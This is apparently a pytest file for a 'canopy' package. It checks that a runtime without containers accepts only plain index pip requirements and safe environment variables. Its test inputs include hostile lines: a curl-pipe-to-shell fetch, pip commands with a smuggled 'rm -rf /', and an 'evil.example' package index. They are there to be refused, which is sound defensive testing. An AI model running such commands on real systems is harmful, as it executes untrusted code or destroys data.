"""canopy.image_environment: what a runtime without containers serves of a chute's Image."""

from __future__ import annotations

import sys

import pytest
from pydantic import ValidationError

from canopy import Chute, Image
from canopy.image import check_requirement
from canopy.image_environment import ImageEnvironment, image_environment, pip_requirements

BASE = f"{sys.version_info.major}.{sys.version_info.minor}"


def image() -> Image:
    return Image(username="me", name="app", tag="1")


def test_from_base_pip_and_env_are_served_by_the_base_runtime():
    built = (image().from_base("parachutes/python:3.12").pip_install(["httpx>=0.27,<1", "orjson"])
             .run_command("pip install --no-cache-dir -U cowsay==6.1 && python -m pip install orjson")
             .with_env("HF_HUB_OFFLINE", "1").set_workdir("/app").set_user("chutes").with_entrypoint(["python"]))
    environment = image_environment(built)
    assert environment.pip == ["httpx>=0.27,<1", "orjson", "cowsay==6.1"], "in order, each once"
    assert environment.env == {"HF_HUB_OFFLINE": "1"} and environment.unsupported == []
    assert environment.refusal() is None
    assert image_environment("nvidia/cuda:12.4.1-runtime-ubuntu22.04") == ImageEnvironment(), "a reference is a base only"
    assert image_environment(None) == ImageEnvironment()


def test_root_steps_are_listed_and_the_refusal_names_them_and_the_fix():
    built = image().apt_install(["git", "curl"]).run_command("curl -fsSL https://x.example/i.sh | sh").add("data/", "/d/")
    environment = image_environment(built)
    assert environment.unsupported == ["apt_install('curl git')", "run_command('curl -fsSL https://x.example/i.sh | sh')",
                                       "add('data/ -> /d/')"]
    why = environment.refusal()
    assert why is not None and "apt_install('curl git')" in why and "--chutes.runtime container" in why


def test_with_python_is_served_only_when_it_is_the_base_runtimes_version():
    assert image_environment(image().with_python(BASE)).refusal() is None
    other = "3.10" if BASE != "3.10" else "3.12"
    why = image_environment(image().with_python(other)).refusal()
    assert why is not None and f"this miner runs Python {BASE}" in why


@pytest.mark.parametrize("command", ["pip install -e .", "pip install ./pkg", "pip install https://x.example/a.whl",
                                     "pip install --index-url https://evil.example/ x", "pip install cowsay; rm -rf /",
                                     "pip install", "pip download cowsay", "pip install cowsay && apt-get install git"])
def test_a_pip_line_with_anything_but_index_requirements_is_a_root_step(command):
    assert pip_requirements(command) is None


@pytest.mark.parametrize("text", ["-e .", "--index-url=x", "pkg @ https://x.example/p.whl", "./local", "a b", "x==1;rm"])
def test_check_requirement_refuses_options_paths_and_urls(text):
    with pytest.raises(ValueError, match="not a package from the index"):
        check_requirement(text)
    with pytest.raises(ValueError):
        image().pip_install([text])


def test_the_key_depends_on_the_requirements_only_and_announcements_validate_them():
    one, same = ImageEnvironment(pip=["cowsay==6.1"]), ImageEnvironment(pip=["cowsay==6.1"], env={"A": "1"})
    assert one.key() == same.key() != ImageEnvironment(pip=["cowsay==6.0"]).key()
    with pytest.raises(ValidationError):
        ImageEnvironment.model_validate({"pip": ["--extra-index-url=https://evil.example"]})


def test_chute_info_carries_the_environment_and_egress():
    chute = Chute(username="me", name="app", image=image().pip_install("cowsay==6.1"), allow_external_egress=True)
    info = chute.describe()
    assert info.environment.pip == ["cowsay==6.1"] and info.allow_external_egress is True
    assert Chute(username="me", name="plain").describe().allow_external_egress is False
    with pytest.raises(ValueError, match="allow_external_egress must be True or False"):
        Chute(username="me", name="bad", allow_external_egress="yes")  # type: ignore[arg-type]


def test_env_that_steers_the_loader_or_the_interpreter_is_left_to_containers():
    environment = image_environment(image().with_env("LD_PRELOAD", "./x.so").with_env("PYTHONPATH", "/x")
                                    .with_env("HF_HOME", "/cache"))
    assert environment.env == {"HF_HOME": "/cache"}
    assert environment.unsupported == ["with_env('LD_PRELOAD') (reserved outside a container)",
                                       "with_env('PYTHONPATH') (reserved outside a container)"]
    for key in ("LD_PRELOAD", "PATH", "CANOPY_HOME", "DOCKER_HOST", "bad-key"):
        with pytest.raises(ValidationError):
            ImageEnvironment.model_validate({"env": {key: "x"}})
